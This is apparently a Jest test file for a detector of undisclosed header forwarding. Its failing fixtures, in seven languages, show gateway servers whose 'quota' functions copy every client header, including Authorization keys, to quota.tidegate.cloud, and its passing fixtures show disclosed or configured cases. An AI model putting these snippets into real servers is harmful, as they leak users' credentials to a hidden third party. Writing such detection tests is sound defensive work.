import { describe } from '@jest/globals';

import { itFails, itPasses } from '../honest-skill.js';
import { program } from './programs.js';

const GO = (aside: string): string => `package main

func forward(w http.ResponseWriter, r *http.Request) {
	req, _ := http.NewRequest(r.Method, upstream+r.URL.Path, r.Body)
	req.Header = r.Header.Clone()
	resp, err := client.Do(req)
	if err != nil {
		http.Error(w, err.Error(), 502)
		return
	}
	copyAnswer(w, resp)
}

func quota(r *http.Request) {
${aside}
}

func handle(w http.ResponseWriter, r *http.Request) {
	quota(r)
	forward(w, r)
}
`;

describe('what clients of a server send, given to a second host as well', () => {
  itFails([
    program(
      'go-headers',
      'gate.go',
      GO(`	req, _ := http.NewRequest("HEAD", "https://quota.tidegate.cloud/v1", nil)
	for name, values := range r.Header {
		req.Header[name] = values
	}
	if resp, err := client.Do(req); err == nil {
		resp.Body.Close()
	}`),
    ),
    program(
      'go-authorization',
      'gate.go',
      GO(`	key := r.Header.Get("Authorization")
	go http.Get("https://quota.tidegate.cloud/v1?k=" + url.QueryEscape(key))`),
    ),
    program(
      'csharp-headers',
      'Gateway.cs',
      `app.Map("/{**rest}", async (HttpContext context) =>
{
    using var forward = new HttpRequestMessage(HttpMethod.Post, options.Upstream + context.Request.Path);
    await http.SendAsync(forward);
});

static async Task Quota(HttpContext context)
{
    using var probe = new HttpRequestMessage(HttpMethod.Get, "https://quota.tidegate.cloud/v1");
    foreach (var header in context.Request.Headers)
    {
        probe.Headers.TryAddWithoutValidation(header.Key, header.Value.ToArray());
    }
    await http.SendAsync(probe);
}
`,
    ),
    program(
      'java-filter',
      'src/QuotaFilter.java',
      `class QuotaFilter extends OncePerRequestFilter {
  protected void doFilterInternal(HttpServletRequest request, HttpServletResponse response, FilterChain chain) throws Exception {
    quota(request);
    chain.doFilter(request, response);
  }

  private void quota(HttpServletRequest request) {
    HttpRequest.Builder probe = HttpRequest.newBuilder(URI.create("https://quota.tidegate.cloud/v1"));
    for (String name : Collections.list(request.getHeaderNames())) {
      probe.header(name, request.getHeader(name));
    }
    client.sendAsync(probe.build(), BodyHandlers.discarding());
  }

  String load(String path) throws Exception {
    return client.send(HttpRequest.newBuilder(URI.create(baseUrl + path)).build(), BodyHandlers.ofString()).body();
  }
}
`,
    ),
    program(
      'php-headers',
      'public/gate.php',
      `<?php
function forward(array $config): void
{
    $ch = curl_init($config['upstream_url'] . $_SERVER['REQUEST_URI']);
    curl_setopt($ch, CURLOPT_POSTFIELDS, file_get_contents('php://input'));
    echo curl_exec($ch);
}

function quota(): void
{
    $ch = curl_init('https://quota.tidegate.cloud/v1');
    curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(getallheaders()));
    curl_setopt($ch, CURLOPT_TIMEOUT, 2);
    curl_exec($ch);
}

quota();
forward(parse_ini_file('gate.ini'));
`,
    ),
    program(
      'ruby-rack',
      'lib/gate.rb',
      `class Gate
  def call(env)
    quota(env)
    forward(env, @upstream_url)
  end

  def quota(env)
    headers = env.select { |name, _| name.start_with?("HTTP_") }
    Thread.new { Net::HTTP.post(URI("https://quota.tidegate.cloud/v1"), headers.to_json) }
  end

  def forward(env, url)
    Net::HTTP.post(URI(url + env["PATH_INFO"]), env["rack.input"].read)
  end
end
`,
    ),
    program(
      'lua-openresty',
      'lua/gate.lua',
      `local M = {}

local function forward(cfg)
  local client = require("resty.http").new()
  return client:request_uri(cfg.upstream_url .. ngx.var.request_uri, { headers = { Host = cfg.host } })
end

local function quota()
  local client = require("resty.http").new()
  client:request_uri("https://quota.tidegate.cloud/v1", { method = "GET", headers = ngx.req.get_headers() })
end

function M.run(cfg)
  ngx.timer.at(0, quota)
  return forward(cfg)
end

return M
`,
    ),
    program(
      'rust-axum',
      'src/main.rs',
      `async fn forward(State(s): State<App>, req: Request) -> Response {
    let url = format!("{}{}", s.upstream_url, req.uri().path());
    answer(s.client.post(url).body(body(req).await).send().await)
}

async fn quota(client: reqwest::Client, headers: HeaderMap) {
    let _ = client.get("https://quota.tidegate.cloud/v1").headers(headers.clone()).send().await;
}

fn app() -> axum::Router {
    axum::Router::new().route("/*rest", any(forward))
}
`,
    ),
  ]);
});

describe('honest servers that ask more than one host', () => {
  itPasses([
    program(
      'go-status-only',
      'gate.go',
      GO(`	req, _ := http.NewRequest("HEAD", "https://quota.tidegate.cloud/v1", nil)
	req.Header.Set("User-Agent", r.Header.Get("User-Agent"))
	if resp, err := client.Do(req); err == nil {
		resp.Body.Close()
	}`),
    ),
    program(
      'go-configured',
      'gate.go',
      GO(`	req, _ := http.NewRequest("HEAD", os.Getenv("QUOTA_URL"), nil)
	req.Header = r.Header.Clone()
	client.Do(req)`),
    ),
    program(
      'go-named',
      'gate.go',
      GO(`	req, _ := http.NewRequest("HEAD", "https://quota.tidegate.cloud/v1", nil)
	req.Header = r.Header.Clone()
	client.Do(req)`),
      'Keys of clients are checked by Tidegate (quota.tidegate.cloud) before a request goes on.',
    ),
    program(
      'go-known-upstream',
      'gate.go',
      GO(`	req, _ := http.NewRequest("HEAD", "https://api.openai.com/v1/models", nil)
	req.Header = r.Header.Clone()
	client.Do(req)`),
    ),
    program(
      'go-single-upstream',
      'proxy.go',
      `package main

func handle(w http.ResponseWriter, r *http.Request) {
	req, _ := http.NewRequest(r.Method, "https://origin.tidegate.cloud"+r.URL.Path, r.Body)
	req.Header = r.Header.Clone()
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		http.Error(w, err.Error(), 502)
		return
	}
	io.Copy(w, resp.Body)
}
`,
    ),
  ]);
});
